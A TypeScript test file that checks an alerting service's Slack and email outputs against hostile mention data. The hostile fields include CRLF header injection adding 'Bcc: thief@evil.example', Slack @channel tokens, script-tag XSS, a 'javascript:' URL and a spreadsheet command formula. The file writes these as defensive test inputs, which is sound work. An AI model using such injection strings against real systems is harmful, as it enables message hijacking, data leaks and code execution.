import { expect, test } from "vitest";
import { onAnyEngine } from "./on-every-engine.ts";
import { CROWD } from "./rules.ts";
import { expectEveryMentionOnce } from "./story.ts";

const BY_AUTHOR = `
description: Somebody is unhappy.
severity: critical
when: { sentiment: negative }
groupBy: author
over: { after: 30m }
`;

onAnyEngine((begin) => {
  test("hostile mentions cannot notify a channel, run as code or add a header", async () => {
    const story = await begin({
      rules: { "by-author": BY_AUTHOR, crowd: CROWD },
      routes: [{ receivers: ["alerts", "team"] }],
    });
    story.at("09:01").mention("Acme", {
      sentiment: "negative",
      author: "<!here>\r\nBcc: thief@evil.example",
      fullname: "<!channel>\r\nBcc: thief@evil.example\r\n\r\n<script>alert(1)</script>",
      snippet:
        "<!channel> <@U123> <https://evil.example|click> <script>alert(1)</script>\u202E\u0000 *b* `c`",
      title: "=cmd|' /C calc'!A0",
      url: "javascript:alert(1)",
    });
    await story.until("09:05");
    const [message] = await story.slack.messages();
    const [mail] = story.smtp.mails;
    expect(story.smtp.mails).toHaveLength(1);
    // One line, however long: what strangers write is text in it.
    expect(mail?.parsed.subject).toMatch(
      /^\[CRITICAL\] <!channel> [^\r\n]{1,80} is negative about Acme: “[^\r\n]{1,80}”$/,
    );
    expect(mail?.to).toEqual(["team@acme.example"]);
    expect([...(mail?.parsed.headers.keys() ?? [])]).not.toContain("bcc");
    expect(mail?.parsed.html).not.toMatch(/<script|javascript:/i);
    expect(mail?.parsed.text).not.toContain("javascript:");
    expect(message?.text).not.toMatch(/<[!@]|<http|<script/);
    for (const parsed of parsedTexts(message?.blocks ?? []))
      expect(parsed).not.toMatch(/<[!@]|<http|<script/);
    expect(JSON.stringify(message?.blocks)).not.toContain("javascript:");
    await expectEveryMentionOnce(story);
  });
});

/** Texts in which Slack looks for mentions and links; rich text is not among them. */
function parsedTexts(value: unknown): string[] {
  if (typeof value !== "object" || value === null) return [];
  if (Array.isArray(value)) return value.flatMap(parsedTexts);
  const { type, text, ...rest } = value as { type?: unknown; text?: unknown };
  if (type === "mrkdwn" && typeof text === "string") return [text];
  return [...parsedTexts(text), ...Object.values(rest).flatMap(parsedTexts)];
}
